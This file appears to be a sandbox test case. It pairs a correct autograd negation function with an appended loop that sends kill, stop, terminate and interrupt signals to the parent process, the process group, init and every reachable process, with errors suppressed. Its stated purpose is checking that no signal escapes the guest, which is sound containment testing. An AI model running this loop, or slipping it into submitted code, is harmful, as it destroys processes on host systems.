"""01-backward: the server, the judge, the group and everybody are sent signals.

property: no signal leaves the guest
honest: neg
"""

# %%
class Neg(Function):
    @staticmethod
    def forward(ctx, x):
        return -x

    @staticmethod
    def backward(ctx, grad_output):
        return -grad_output


# %%
import os
import signal

for target in (os.getppid(), 0, -1, 1, -os.getpgrp(), -os.getppid()):
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGINT):
        for send in (os.kill, os.killpg):
            try:
                send(target, number)
            except (OSError, OverflowError):
                pass
